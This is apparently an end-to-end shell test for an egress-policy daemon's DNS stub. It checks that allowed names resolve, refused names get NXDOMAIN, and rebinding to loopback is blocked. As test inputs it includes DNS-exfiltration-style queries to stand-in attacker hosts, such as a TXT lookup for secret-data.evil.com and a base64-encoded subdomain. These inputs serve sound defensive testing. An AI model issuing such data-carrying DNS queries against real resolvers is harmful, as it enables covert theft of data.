#!/bin/sh
# The DNS stub (corral-policy(5)), in host mode.
# Sets up: the test bed; corrald with a DNS stub on loopback
# (host_proxy.dns) whose policy allows github.com and *.example.com.
# Does: dig against the stub, over UDP and TCP, for allowed and refused
# names and for other record types.
# Expects: allowed names get the bed's addresses, AAAA gets an empty
# answer (not NXDOMAIN), refused names get NXDOMAIN and never reach the
# upstream server (its query log), and each decision has a dns record.
. "$top_srcdir/tests/lib/tap.sh"
. "$top_srcdir/tests/e2e/lib/testbed.sh"
. "$top_srcdir/tests/e2e/lib/corral.sh"
tb_need_root
tb_install_traps
tb_up || { echo "Bail out! no test bed"; exit 1; }

port=$(tb_free_port)
dport=$(tb_free_port)
ledger="$TB_DIR/log/egress.jsonl"
corral_file "$TB_DIR/policy.yaml" <<YAML
version: 1
network_policies:
  code:
    endpoints: [{host: github.com, port: 443}, {host: "*.example.com", port: 443}]
    binaries: [{path: "/**"}]
  rebinding:
    endpoints: [{host: loopback.evil.test, port: 443}]
    binaries: [{path: "/**"}]
YAML
corral_config "$TB_DIR/corrald.yaml" <<YAML
host_proxy:
  listen: 127.0.0.1:$port
  dns: 127.0.0.1:$dport
  policy: $TB_DIR/policy.yaml
YAML
corral_start corrald "$TB_DIR/corrald.yaml" "$dport" udp

stub() { tb_exec_host dig +time=2 +tries=1 -p "$dport" @127.0.0.1 "$@"; }

out=$(stub +short github.com A)
check_eq "an allowed name is answered with its address" "$(tb_addr github.com)" "$out"
out=$(stub +short +tcp github.com A)
check_eq "the same over TCP" "$(tb_addr github.com)" "$out"
out=$(stub +short www.example.com A)
check_eq "a name under an allowed wildcard is answered" "$(tb_addr www.example.com)" "$out"
out=$(stub github.com AAAA)
check_contains "AAAA of an allowed name is NOERROR" "$out" "status: NOERROR"
check_contains "with no answer (NODATA, not NXDOMAIN)" "$out" "ANSWER: 0"

mark=$(tb_dns_log_lines)
out=$(stub evil.com A)
check_contains "an unlisted name is NXDOMAIN" "$out" "status: NXDOMAIN"
out=$(stub example.com A)
check_contains "the wildcard's apex is NXDOMAIN" "$out" "status: NXDOMAIN"
out=$(stub secret-data.evil.com TXT)
check_contains "a data-carrying TXT query is NXDOMAIN" "$out" "status: NXDOMAIN"
out=$(stub +tcp c2VjcmV0.evil.com A)
check_contains "over TCP too" "$out" "status: NXDOMAIN"
for name in evil.com secret-data.evil.com c2VjcmV0.evil.com; do
	tb_dns_queried "$name" "$mark"; rc=$?
	check_eq "$name never reached the upstream server" 1 "$rc"
done
tb_dns_queried example.com "$mark"; rc=$?
check_eq "example.com never reached the upstream server" 1 "$rc"

out=$(stub +short loopback.evil.test A)
check_eq "an allowed name resolving to loopback gets no address" "" "$out"

printf '\001\002garbage' | tb_exec_host socat -t 1 - "UDP:127.0.0.1:$dport" >/dev/null 2>&1
out=$(stub +short github.com A)
check_eq "after a malformed packet the stub still answers" "$(tb_addr github.com)" "$out"

sleep 0.5
check "the ledger has a dns allow record for github.com" python3 -c "
import json
assert any(r['event'] == 'dns' and r['host'] == 'github.com' and r['decision'] == 'allow'
           for r in map(json.loads, open('$ledger')))"
check "and a dns deny record for secret-data.evil.com" python3 -c "
import json
assert any(r['event'] == 'dns' and r['host'] == 'secret-data.evil.com' and r['decision'] == 'deny'
           and r['reason'] == 'dns_name_not_allowed' for r in map(json.loads, open('$ledger')))"
out=$(tb_exec_host "$top_builddir/corral" --socket "$TB_DIR/corrald.sock" denials host --json)
check_contains "the refused name is in denials" "$out" '"host":"secret-data.evil.com"'
tap_done
